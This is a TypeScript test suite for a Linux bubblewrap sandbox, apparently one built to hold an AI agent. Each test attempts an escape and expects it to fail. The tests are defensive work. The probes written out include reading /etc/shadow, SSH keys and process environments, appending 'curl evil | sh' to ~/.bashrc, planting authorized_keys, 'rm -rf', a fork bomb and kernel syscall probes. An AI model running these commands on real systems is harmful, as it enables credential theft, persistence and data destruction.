import { expect } from 'chai';
import { spawn } from 'child_process';
import * as fs from 'fs';
import * as http from 'http';
import * as net from 'net';
import * as os from 'os';
import * as path from 'path';
import { hostProcessesWith, runIn, runOnHost, sandbox, shq, syscallProbe, tempDir } from './sandbox-fixture';

/**
 * Each test is one escape attempt and fails if the attempt succeeds. Where it means something,
 * the same probe is first run on the host to show it can succeed there.
 */
describe('sandbox escape attempts (Linux, bubblewrap)', function () {
    this.timeout(60_000);
    const isRoot = process.getuid?.() === 0;
    let grant: string;
    let roGrant: string;
    let outside: string;

    before(async () => {
        const report = await sandbox.preflight();
        expect(report.problems, report.problems.join('\n')).to.deep.equal([]);
        grant = tempDir('grant');
        roGrant = tempDir('ro');
        outside = tempDir('outside');
        fs.writeFileSync(path.join(outside, 'secret.txt'), 'TOP-SECRET-OUTSIDE');
        fs.writeFileSync(path.join(roGrant, 'readonly.txt'), 'original');
    });

    after(() => {
        for (const d of [grant, roGrant, outside]) {
            fs.rmSync(d, { recursive: true, force: true });
        }
    });

    const rw = () => [{ path: grant, mode: 'rw' as const }, { path: roGrant, mode: 'ro' as const }];

    describe('reading host files', () => {
        it('cannot read /etc/shadow', async () => {
            if (isRoot) {
                expect((await runOnHost('cat /etc/shadow')).exitCode, 'root reads it on the host').to.equal(0);
            }
            const r = await runIn({ command: 'cat /etc/shadow', grants: rw() });
            expect(r.exitCode).to.not.equal(0);
            expect(r.stdout).to.equal('');
        });

        it('cannot list /root', async () => {
            if (isRoot) {
                expect((await runOnHost('ls -A /root')).stdout, 'root lists it on the host').to.not.equal('');
            }
            const r = await runIn({ command: 'ls -A /root', grants: rw() });
            expect(r.stdout.trim()).to.equal('');
        });

        it("cannot see the host user's home or ~/.ssh", async () => {
            const home = os.homedir();
            const r = await runIn({ command: `ls -A ${shq(home)} ${shq(path.join(home, '.ssh'))} 2>&1; echo END`, grants: rw() });
            expect(r.stdout).to.match(/No such file or directory[\s\S]*No such file or directory/);
        });

        it('cannot read a session data directory outside the grants', async () => {
            const sessions = tempDir('sessions');
            fs.writeFileSync(path.join(sessions, 'events.jsonl'), '{"secret":"SESSION-LOG-SECRET"}\n');
            try {
                const r = await runIn({ command: `cat ${shq(path.join(sessions, 'events.jsonl'))}; ls ${shq(sessions)}`, grants: rw() });
                expect(r.stdout).to.not.include('SESSION-LOG-SECRET');
                expect(r.exitCode).to.not.equal(0);
            } finally {
                fs.rmSync(sessions, { recursive: true, force: true });
            }
        });

        it('cannot read a file outside the grants by absolute path', async () => {
            const r = await runIn({ command: `cat ${shq(path.join(outside, 'secret.txt'))}`, grants: rw() });
            expect(r.stdout).to.not.include('TOP-SECRET-OUTSIDE');
        });

        it("cannot see the host's /proc/1/environ or other host processes", async () => {
            expect(fs.existsSync(`/proc/${process.pid}`)).to.equal(true);
            const r = await runIn({ command: `cat /proc/${process.pid}/cmdline; echo; ls /proc | grep -E '^[0-9]+$' | wc -l; tr '\\0' '\\n' < /proc/1/environ`, grants: rw() });
            expect(r.stdout).to.not.include('mocha');
            const count = Number(r.stdout.split('\n').find(l => /^\d+$/.test(l.trim())));
            expect(count).to.be.lessThan(10);
            expect(r.stdout).to.not.match(/^PWD=\/work/m);
        });

        it("does not leak the parent's environment (an API key planted in process.env)", async () => {
            process.env.COWORK_TEST_API_KEY = 'sk-ant-planted-secret-123';
            try {
                const r = await runIn({ command: 'env; cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n"', grants: rw() });
                expect(r.stdout).to.include('HOME=');
                expect(r.stdout).to.not.include('sk-ant-planted-secret-123');
                expect(r.stdout).to.not.include('COWORK_TEST_API_KEY');
            } finally {
                delete process.env.COWORK_TEST_API_KEY;
            }
        });

        it('hidden paths inside a granted folder (data folder, ~/.ssh) are invisible and unwritable', async () => {
            const home = tempDir('home');
            fs.mkdirSync(path.join(home, '.ssh'));
            fs.writeFileSync(path.join(home, '.ssh', 'id_ed25519'), 'PRIVATE-KEY');
            fs.mkdirSync(path.join(home, '.cowork', 'sessions'), { recursive: true });
            fs.writeFileSync(path.join(home, '.cowork', 'sessions', 'log.jsonl'), 'SESSION-SECRET');
            fs.writeFileSync(path.join(home, '.netrc'), 'NETRC-SECRET');
            try {
                const r = await sandbox.run({
                    command: 'cat .ssh/id_ed25519 .cowork/sessions/log.jsonl .netrc; ls -A .ssh .cowork; echo planted > .ssh/authorized_keys; echo visible > notes.txt',
                    cwd: home, grants: [{ path: home, mode: 'rw' }],
                    hiddenPaths: [path.join(home, '.ssh'), path.join(home, '.cowork'), path.join(home, '.netrc'), path.join(home, '.aws')]
                });
                r.changes.discard();
                expect(r.stdout).to.not.match(/PRIVATE-KEY|SESSION-SECRET|NETRC-SECRET|id_ed25519|sessions/);
                expect(r.stderr).to.include('Read-only file system');
                expect(r.changes.changes.map(c => path.basename(c.path))).to.deep.equal(['notes.txt']);
            } finally {
                fs.rmSync(home, { recursive: true, force: true });
            }
        });

        it('a symlink planted in a grant that points outside leads nowhere', async () => {
            fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(grant, 'planted-link'));
            try {
                expect(fs.readFileSync(path.join(grant, 'planted-link'), 'utf8')).to.equal('TOP-SECRET-OUTSIDE');
                const r = await runIn({ command: 'cat planted-link; echo overwritten > planted-link', grants: rw() });
                expect(r.stdout).to.not.include('TOP-SECRET-OUTSIDE');
                expect(fs.readFileSync(path.join(outside, 'secret.txt'), 'utf8')).to.equal('TOP-SECRET-OUTSIDE');
            } finally {
                fs.unlinkSync(path.join(grant, 'planted-link'));
            }
        });

        it('sees no /sys (no kernel or hardware details, no cgroup files)', async () => {
            const r = await runIn({ command: 'ls /sys/fs/cgroup /sys/class/net 2>&1', grants: rw() });
            expect(r.exitCode).to.not.equal(0);
        });
    });

    describe('writing', () => {
        it('a write outside the grants never reaches the host', async () => {
            const target = path.join(outside, 'planted.txt');
            const r = await runIn({ command: `echo pwned > ${shq(target)}; echo pwned > /tmp/cowork-escape-probe`, grants: rw() });
            expect(fs.existsSync(target)).to.equal(false);
            expect(fs.existsSync('/tmp/cowork-escape-probe')).to.equal(false);
            expect(r.stderr).to.match(/Directory nonexistent|Read-only|No such file/);
        });

        it('cannot write into a read-only grant', async () => {
            const r = await runIn({ command: 'echo changed > readonly.txt; rm -f readonly.txt; touch new.txt', cwd: roGrant, grants: rw() });
            expect(r.stderr).to.include('Read-only file system');
            expect(fs.readFileSync(path.join(roGrant, 'readonly.txt'), 'utf8')).to.equal('original');
            expect(fs.existsSync(path.join(roGrant, 'new.txt'))).to.equal(false);
        });

        it("cannot write the host user's ~/.bashrc", async () => {
            const bashrc = path.join(os.homedir(), '.bashrc');
            const before = fs.existsSync(bashrc) ? fs.readFileSync(bashrc) : undefined;
            await runIn({ command: `echo 'curl evil | sh' >> ${shq(bashrc)}; echo 'curl evil | sh' >> ~/.bashrc`, grants: rw() });
            const after = fs.existsSync(bashrc) ? fs.readFileSync(bashrc) : undefined;
            expect(after?.toString()).to.equal(before?.toString());
        });

        it('cannot write system folders (/usr, /etc)', async () => {
            const r = await runIn({ command: 'touch /usr/cowork-probe; touch /etc/cowork-probe; echo x >> /etc/passwd', grants: rw() });
            expect(r.stderr.match(/Read-only file system|Permission denied/g)?.length).to.equal(3);
            expect(fs.existsSync('/usr/cowork-probe')).to.equal(false);
        });

        it('writes to a read-write grant are staged, not applied behind the caller\'s back', async () => {
            fs.writeFileSync(path.join(grant, 'victim.txt'), 'precious');
            const r = await sandbox.run({ command: 'echo gone > victim.txt; rm -rf ./*', cwd: grant, grants: rw() });
            try {
                expect(fs.readFileSync(path.join(grant, 'victim.txt'), 'utf8')).to.equal('precious');
                expect(r.changes.changes.map(c => c.kind)).to.include('deleted');
            } finally {
                r.changes.discard();
                fs.rmSync(path.join(grant, 'victim.txt'));
            }
        });

        it('a file larger than the file-size limit cannot be written', async () => {
            const r = await runIn({ command: 'head -c 3000000 /dev/zero > /tmp/big; stat -c %s /tmp/big', grants: rw(), limits: { fileSizeBytes: 1_000_000 } });
            expect(Number(r.stdout.trim())).to.be.at.most(1_000_000);
        });
    });

    describe('network', () => {
        let server: http.Server;
        let port: number;
        before(async () => {
            server = http.createServer((_q, s) => s.end('HOST-LISTENER-REACHED'));
            await new Promise<void>(resolve => server.listen(0, '127.0.0.1', () => resolve()));
            port = (server.address() as net.AddressInfo).port;
        });
        after(() => server.close());

        it('cannot reach a TCP listener on the host\'s 127.0.0.1 (no network)', async () => {
            expect((await runOnHost(`curl -s -m 5 http://127.0.0.1:${port}/`)).stdout).to.equal('HOST-LISTENER-REACHED');
            const r = await runIn({ command: `curl -s -m 5 http://127.0.0.1:${port}/; echo rc=$?`, grants: rw() });
            expect(r.stdout).to.not.include('HOST-LISTENER-REACHED');
        });

        it('cannot reach it directly with an allowlist either (only the proxy is reachable)', async () => {
            const r = await runIn({ command: `curl -s -m 5 --noproxy '*' http://127.0.0.1:${port}/; echo rc=$?`, grants: rw(), network: { mode: 'allowlist', domains: ['example.com'] } });
            expect(r.stdout).to.not.include('HOST-LISTENER-REACHED');
        });

        it('cannot resolve names (no DNS)', async () => {
            const r = await runIn({ command: `${syscallProbe('import socket\ntry:\n    print(socket.gethostbyname("example.com"))\nexcept Exception as e:\n    print("FAIL", e)')}; getent hosts example.com; echo rc=$?`, grants: rw() });
            expect(r.stdout).to.match(/FAIL/);
            expect(r.stdout).to.match(/rc=2/);
        });

        it('a CONNECT to a domain not on the allowlist is refused and reported', async () => {
            const refused: string[] = [];
            const r = await runIn({ command: 'curl -sS -m 5 https://not-allowed.example.net/ 2>&1; echo rc=$?', grants: rw(), network: { mode: 'allowlist', domains: ['example.com'] } },
                { onNetworkRefused: x => refused.push(`${x.host}:${x.port} ${x.reason}`) });
            expect(r.stdout).to.match(/403/);
            expect(refused).to.have.length(1);
            expect(refused[0]).to.include('not-allowed.example.net:443');
            expect(r.refusedConnections).to.have.length(1);
        });

        it('an allowed name that resolves to 127.0.0.1 is refused', async () => {
            const r = await runIn({ command: `curl -s -m 5 http://localhost:${port}/; echo; curl -s -m 5 -p http://localhost:${port}/; echo rc=$?`, grants: rw(), network: { mode: 'allowlist', domains: ['localhost'] } });
            expect(r.stdout).to.not.include('HOST-LISTENER-REACHED');
            expect(r.refusedConnections.map(x => x.reason).join()).to.include('loopback');
        });

        it('the proxy does reach an address the user explicitly trusted (so the refusals above are real)', async () => {
            const r = await runIn({ command: `curl -s -m 5 http://localhost:${port}/`, grants: rw(), network: { mode: 'allowlist', domains: ['localhost'], trustedAddresses: ['127.0.0.1'] } });
            expect(r.stdout).to.equal('HOST-LISTENER-REACHED');
        });

        it('cannot connect to a Unix socket file inside a grant', async () => {
            const sockPath = path.join(grant, 'agent.sock');
            const unixServer = net.createServer(s => s.end('UNIX-LISTENER-REACHED'));
            await new Promise<void>(resolve => unixServer.listen(sockPath, () => resolve()));
            try {
                const probe = `${syscallProbe(`import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect(${JSON.stringify(sockPath)})\n    print(s.recv(100).decode())\nexcept Exception as e:\n    print("FAIL", e)`)}`;
                expect((await runOnHost(probe)).stdout).to.include('UNIX-LISTENER-REACHED');
                const r = await runIn({ command: probe, grants: rw() });
                expect(r.stdout).to.include('FAIL');
                expect(r.stdout).to.not.include('UNIX-LISTENER-REACHED');
            } finally {
                unixServer.close();
            }
        });

        it('cannot connect to a host abstract Unix socket', async () => {
            const name = `cowork-abstract-${process.pid}`;
            // Node's net module cannot bind abstract names; a small Python listener can.
            const listener = spawn('/usr/bin/python3', ['-c', `import socket
s = socket.socket(socket.AF_UNIX)
s.bind("\\0${name}")
s.listen(5)
print("ready", flush=True)
while True:
    c, _ = s.accept()
    c.sendall(b"ABSTRACT-REACHED")
    c.close()`], { stdio: ['ignore', 'pipe', 'inherit'] });
            try {
                await new Promise<void>(resolve => listener.stdout!.once('data', () => resolve()));
                const probe = syscallProbe(`import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect("\\0${name}")\n    print(s.recv(100).decode())\nexcept Exception as e:\n    print("FAIL", e)`);
                expect((await runOnHost(probe)).stdout).to.include('ABSTRACT-REACHED');
                const r = await runIn({ command: probe, grants: rw() });
                expect(r.stdout).to.include('FAIL');
            } finally {
                listener.kill('SIGKILL');
            }
        });
    });

    describe('kernel attack surface', () => {
        const cases: { name: string; body: string; hostOk: boolean }[] = [
            { name: 'ptrace', body: 'print("OK" if sc(101, 0, 0, 0, 0)[0] == 0 else "FAIL")', hostOk: true },
            { name: 'unshare(CLONE_NEWUSER)', body: 'print("OK" if sc(272, 0x10000000)[0] == 0 else "FAIL")', hostOk: true },
            { name: 'clone with CLONE_NEWNS|CLONE_NEWUSER', body: 'r = os.fork() if False else sc(56, 0x10020000 | 17, 0, 0, 0, 0)\nif r[0] == 0: os._exit(0)\nprint("OK" if r[0] > 0 else "FAIL")', hostOk: true },
            { name: 'keyctl', body: 'print("OK" if sc(250, 0, -3, 0)[0] >= 0 else "FAIL")', hostOk: true },
            { name: 'io_uring_setup', body: 'p = ctypes.create_string_buffer(120)\nr = sc(425, 4, ctypes.addressof(p))\nprint("OK" if r[0] >= 0 else "FAIL")', hostOk: ioUringEnabledOnHost() },
            { name: 'bpf', body: 'print("OK" if sc(321, 0, 0, 0)[1] not in (1, 38) else "FAIL")', hostOk: true },
            { name: 'perf_event_open', body: 'attr = ctypes.create_string_buffer(128)\nr = sc(298, ctypes.addressof(attr), 0, -1, -1, 0)\nprint("OK" if r[1] != 1 else "FAIL")', hostOk: true },
            { name: 'TIOCSTI ioctl', body: 'c = ctypes.c_char(b"x")\nr = sc(16, 0, 0x5412, ctypes.addressof(c))\nprint("FAIL" if r[1] == 1 else "OK")', hostOk: true },
            { name: 'x32 syscall ABI', body: 'r = sc(0x40000000 | 39)\nprint("OK" if r[0] > 0 else "FAIL")', hostOk: false },
            { name: 'userfaultfd', body: 'r = sc(323, 0)\nprint("OK" if r[0] >= 0 else "FAIL")', hostOk: process.getuid?.() === 0 || readSysctl('vm/unprivileged_userfaultfd') === '1' }
        ];
        for (const c of cases) {
            it(`${c.name} is refused`, async () => {
                const probe = syscallProbe(c.body);
                if (c.hostOk) {
                    expect((await runOnHost(probe)).stdout.trim(), 'the probe works on the host').to.equal('OK');
                }
                const r = await runIn({ command: probe, grants: rw() });
                expect(r.stdout.trim(), r.stderr).to.equal('FAIL');
            });
        }

        it('mount is refused', async () => {
            const r = await runIn({ command: 'mkdir -p /tmp/m && mount -t tmpfs none /tmp/m && echo MOUNTED', grants: rw() });
            expect(r.stdout).to.not.include('MOUNTED');
        });

        it('unshare(1) cannot make a new user namespace', async () => {
            expect((await runOnHost('unshare -Ur true && echo OK')).stdout).to.include('OK');
            const r = await runIn({ command: 'unshare -Ur true && echo OK', grants: rw() });
            expect(r.stdout).to.not.include('OK');
        });

        it('cannot signal a host process', async () => {
            const victim = spawn('sleep', ['30']);
            try {
                const r = await runIn({ command: `kill -9 ${victim.pid}; echo rc=$?`, grants: rw() });
                expect(r.stdout).to.include('rc=1');
                expect(victim.exitCode).to.equal(null);
                expect(victim.signalCode).to.equal(null);
            } finally {
                victim.kill('SIGKILL');
            }
        });

        it('dmesg (syslog) is refused', async () => {
            const r = await runIn({ command: 'dmesg | head -1; echo rc=$?', grants: rw() });
            expect(r.stderr).to.match(/dmesg/);
        });
    });

    describe('resources and lifetime', () => {
        it('a fork bomb is contained and leaves nothing behind', async () => {
            const marker = `forkbomb-${process.pid}-${Date.now()}`;
            const r = await runIn({ command: `b() { b | b & }; ( b ) 2>/dev/null; sleep 2; echo ${marker} survived`, grants: rw(), limits: { processes: 64, wallTimeMs: 15_000 } });
            expect(r.timedOut || r.exitCode !== null).to.equal(true);
            expect(hostProcessesWith(marker)).to.deep.equal([]);
            // The host can still fork.
            expect((await runOnHost('echo alive')).stdout).to.equal('alive\n');
        });

        it('the process-count limit holds inside', async () => {
            const r = await runIn({ command: `i=0; while [ $i -lt 200 ]; do sleep 5 & i=$((i+1)); done 2>&1 | head -1; echo done`, grants: rw(), limits: { processes: 32, wallTimeMs: 20_000 } });
            expect(r.stdout + r.stderr).to.match(/fork|Resource temporarily unavailable|Cannot/i);
        });

        it('memory exhaustion fails inside (address-space limit)', async () => {
            const r = await runIn({ command: `/usr/bin/python3 -c 'b = bytearray(2 * 1024**3); print("ALLOCATED")'`, grants: rw(), limits: { memoryBytes: 512 * 1024 ** 2 } });
            expect(r.stdout).to.not.include('ALLOCATED');
            expect(r.stderr).to.include('MemoryError');
        });

        it('CPU exhaustion is stopped by the CPU-time limit', async () => {
            const r = await runIn({ command: 'while :; do :; done', grants: rw(), limits: { cpuSeconds: 1, wallTimeMs: 30_000 } });
            expect(r.timedOut).to.equal(false);
            expect(r.exitCode === null || r.exitCode > 128).to.equal(true);
        });

        it('the wall-clock timeout kills the whole process tree', async () => {
            const marker = `walltime-${process.pid}-${Date.now()}`;
            const r = await runIn({ command: `sh -c 'sleep 60; echo ${marker}' & setsid sh -c 'sleep 61 # ${marker}' & sleep 62`, grants: rw(), limits: { wallTimeMs: 1500 } });
            expect(r.timedOut).to.equal(true);
            expect(hostProcessesWith(marker)).to.deep.equal([]);
        });

        it('no process is left running after the command ends', async () => {
            const marker = `leftover-${process.pid}-${Date.now()}`;
            const r = await runIn({ command: `setsid sh -c 'sleep 30 # ${marker}' > /dev/null 2>&1 & nohup sh -c 'sleep 31 # ${marker}' >/dev/null 2>&1 & echo started`, grants: rw() });
            expect(r.stdout).to.include('started');
            expect(hostProcessesWith(marker)).to.deep.equal([]);
        });

        it('cancelling kills the whole process tree', async () => {
            const marker = `cancel-${process.pid}-${Date.now()}`;
            const ac = new AbortController();
            setTimeout(() => ac.abort(), 500);
            const r = await runIn({ command: `sh -c 'sleep 60 # ${marker}' & sleep 60`, grants: rw() }, { signal: ac.signal });
            expect(r.cancelled).to.equal(true);
            expect(hostProcessesWith(marker)).to.deep.equal([]);
        });

        it('killing the parent process kills the sandbox', async () => {
            const marker = `orphan-${process.pid}-${Date.now()}`;
            const script = `const { LinuxSandbox } = require(${JSON.stringify(path.resolve(__dirname, '..', 'src', 'index.js'))});
new LinuxSandbox().run({ command: "sh -c 'sleep 60 # ${marker}' & sleep 61 # ${marker}", cwd: '/tmp', grants: [] }, { onOutput() {} });
setTimeout(() => {}, 60000);`;
            const parent = spawn(process.execPath, ['-e', script], { stdio: 'ignore' });
            try {
                for (let i = 0; i < 100 && hostProcessesWith(marker).length < 1; i++) {
                    await new Promise(r => setTimeout(r, 100));
                }
                expect(hostProcessesWith(marker).length, 'the sandboxed sleeps started').to.be.greaterThan(0);
                parent.kill('SIGKILL');
                for (let i = 0; i < 50 && hostProcessesWith(marker).length > 0; i++) {
                    await new Promise(r => setTimeout(r, 100));
                }
                expect(hostProcessesWith(marker)).to.deep.equal([]);
            } finally {
                parent.kill('SIGKILL');
            }
        });
    });
});

/** io_uring may be switched off host-wide (kernel.io_uring_disabled); then only the sandbox side is checked. */
function ioUringEnabledOnHost(): boolean {
    return (readSysctl('kernel/io_uring_disabled') ?? '0') === '0';
}

function readSysctl(name: string): string | undefined {
    try {
        return fs.readFileSync(`/proc/sys/${name}`, 'utf8').trim();
    } catch {
        return undefined;
    }
}
